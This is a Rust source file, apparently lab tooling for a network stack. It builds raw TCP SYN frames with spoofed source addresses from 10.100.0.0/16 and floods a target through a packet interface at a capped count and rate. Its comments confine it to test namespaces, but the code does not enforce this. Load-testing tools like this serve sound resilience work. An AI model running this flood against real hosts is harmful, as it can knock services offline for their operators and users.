//! A SYN flood from one machine: SYNs of addresses that are nobody's, as fast as one core sends them, bounded in number.
//!
//! Only for namespaces: it takes an interface as a port and speaks for hosts that do not exist.

#![allow(clippy::disallowed_methods)]

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::net::TcpStream;

use crate::base::addr::Mac;
use crate::base::seq::Seq;
use crate::base::time::Time;
use crate::port::Port;
use crate::port::af_packet::{AfPacket, Options};
use crate::wire::build::{self, Link, Segment};
use crate::wire::frame::{Batch, Egress};
use crate::wire::parse::TcpFlags;

/// SYNs sent at once.
const BURST: u16 = 64;

/// What was sent.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Flooded {
    /// SYNs.
    pub syns: u64,
    /// In how long.
    pub millis: u64,
}

/// Sends `syns` SYNs to the target through `interface`, no faster than `rate` a second, and reports.
///
/// # Errors
/// There is no such interface, or the target does not answer a connection first, by which its station becomes known.
pub async fn flood(interface: &str, target: SocketAddr, syns: u64, rate: u64) -> io::Result<()> {
    TcpStream::connect(target).await?;
    let station = neighbour(target)?;
    let mut port = AfPacket::open(interface, Options::default()).map_err(io::Error::other)?;
    let mut batch = Batch::new(usize::from(BURST), 128);
    let all: Vec<u16> = (0..BURST).collect();
    let mut coins = fastrand::Rng::with_seed(7);
    let (start, mut sent) = (Instant::now(), 0);
    while sent < syns {
        batch.clear();
        for _ in 0..u64::from(BURST).min(syns - sent) {
            // Of a net that no node of a lab is in.
            let from = SocketAddrV4::new(Ipv4Addr::from(0x0a64_0000 | coins.u32(1..0xfffe)), coins.u16(1024..));
            let segment = Segment {
                from: from.into(),
                to: target,
                seq: Seq(coins.u32(..)),
                ack: Seq(0),
                flags: TcpFlags::SYN,
                window: 64_240,
                mss: Some(1460),
                payload: &[],
            };
            let Some(frame) = batch.next_free() else { break };
            if !build::tcp(frame, Link { src: Mac([2, 0, 0, 0, 9, 9]), dst: station }, &segment) {
                return Err(io::Error::other("a SYN that does not fit"));
            }
            frame.egress = Egress::None;
        }
        let count = batch.len();
        port.send(&mut batch, &all[..count], Time::ZERO)?;
        sent += count as u64;
        let due = Duration::from_secs_f64(sent as f64 / rate as f64);
        tokio::time::sleep(due.saturating_sub(start.elapsed())).await;
    }

    println!("{}", serde_json::to_string(&Flooded { syns: sent, millis: start.elapsed().as_millis() as u64 })?);
    Ok(())
}

/// The station behind an address, as the kernel has learnt it.
fn neighbour(of: SocketAddr) -> io::Result<Mac> {
    let table = std::fs::read_to_string("/proc/net/arp")?;
    let row = table.lines().find(|line| line.split_whitespace().next() == Some(&of.ip().to_string()));
    let mac = row.and_then(|row| row.split_whitespace().nth(3)?.parse().ok());
    mac.ok_or_else(|| io::Error::other(format!("the station of {of} is not known")))
}
